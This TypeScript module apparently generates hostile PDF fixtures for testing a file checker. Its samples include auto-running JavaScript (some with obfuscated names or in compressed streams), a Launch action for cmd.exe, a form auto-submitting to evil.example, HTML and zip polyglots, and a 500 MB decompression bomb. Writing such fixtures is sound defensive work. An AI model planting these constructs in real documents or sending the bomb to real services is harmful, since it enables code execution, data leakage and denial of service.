import { deflateSync } from 'node:zlib'
import { pdf, type Hostile } from './hostile.ts'

const head = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n'

/** PDF files that act, hide, or are cut short. */
export function hostileDocuments(): Hostile[] {
  const document = (name: string, text: string | Buffer, harmless?: string): Hostile => ({
    name,
    bytes: Buffer.isBuffer(text) ? text : Buffer.from(text, 'latin1'),
    as: [pdf],
    ...(harmless ? { harmless } : {}),
  })
  const acts = (entry: string) => aPdf(`<</Type/Catalog/Pages 2 0 R${entry}>>`)
  return [
    document(
      'a script that runs when it is opened',
      acts('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
    ),
    document(
      'a script whose name is spelt out',
      acts('/OpenAction<</S/#4aavaScript/J#53(app.alert(1))>>'),
    ),
    document('a script in a packed stream', packed('/S/JavaScript/JS(app.alert(1))')),
    document('a program that is started', acts('/OpenAction<</S/Launch/F(cmd.exe)>>')),
    document('another file inside', acts('/Names<</EmbeddedFiles 9 0 R>>')),
    document('a form that sends itself', acts('/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>')),
    document('encrypted', `${acts('')}trailer<</Root 1 0 R/Encrypt 9 0 R>>\n%%EOF`),
    document('cut short', acts('').slice(0, 60)),
    document('its first five letters alone', '%PDF-'),
    document('a page of HTML behind the mark', `%PDF-<html><script>alert(1)</script>`),
    document('a stream that unpacks to 500 MB', bomb()),
    document('HTML before the mark', `<html>${acts('')}`),
    document('an archive that says it is one', 'PK\u0003\u0004%PDF-1.7'),
    document('nothing', ''),
  ]
}

/** One empty page. */
function aPdf(catalog: string, more = ''): string {
  const objects = [
    catalog,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>',
  ]
  const written = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join('')
  return `${head}${written}${more}trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n`
}

function packed(dictionary: string): Buffer {
  return withStream(deflateSync(Buffer.from(`1 0 <</Type/Catalog/OpenAction<<${dictionary}>>>>`)))
}

const bomb = () => withStream(deflateSync(Buffer.alloc(500_000_000), { level: 1 }))

function withStream(data: Buffer): Buffer {
  const before = `4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${data.length}>>\nstream\n`
  const [top = '', rest = ''] = aPdf('<</Type/Catalog/Pages 2 0 R>>').split('trailer')
  const end = `\nendstream\nendobj\ntrailer${rest}`
  return Buffer.concat([Buffer.from(top + before, 'latin1'), data, Buffer.from(end, 'latin1')])
}
